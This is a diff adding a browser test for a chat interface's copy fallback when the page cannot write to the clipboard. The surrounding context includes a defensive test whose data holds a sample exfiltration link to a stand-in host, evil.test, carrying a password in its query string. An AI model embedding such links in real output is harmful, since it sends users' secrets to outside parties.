@@ -202,6 +202,19 @@ def test_a_page_that_came_by_plain_http_sends_and_copies(visitor: Visitor) -> No
     expect(visitor.message).to_have_value("No secrets here")
 
 
+def test_where_nothing_may_be_copied_it_is_said(visitor: Visitor) -> None:
+    visitor.page.add_init_script(f"({PLAIN_HTTP})(); document.execCommand = () => false")
+    visitor.asks("mirror", "No secrets here")
+    visitor.sees_answer("No secrets here")
+    visitor.does("Copy", visitor.answers.last)
+    visitor.sees("This browser does not let the page copy.")
+    visitor.button("View code").click()
+    dialog = visitor.page.get_by_role("dialog", name="View code")
+    visitor.button("Copy", dialog).click()
+    expect(dialog.get_by_role("alert")).to_contain_text("This browser does not let the page copy.")
+    assert "No secrets here" in visitor.evaluate("getSelection().toString()")
+
+
 def test_links_that_could_carry_words_away_ask_first(visitor: Visitor, upstream: Upstream) -> None:
     stolen = "https://evil.test/i?d=my%20password%20is%20tulip"
     text = f"[harmless](https://docs.test/a?b=c) [image]({stolen}) [long](https://long.test/{'a' * 600})"
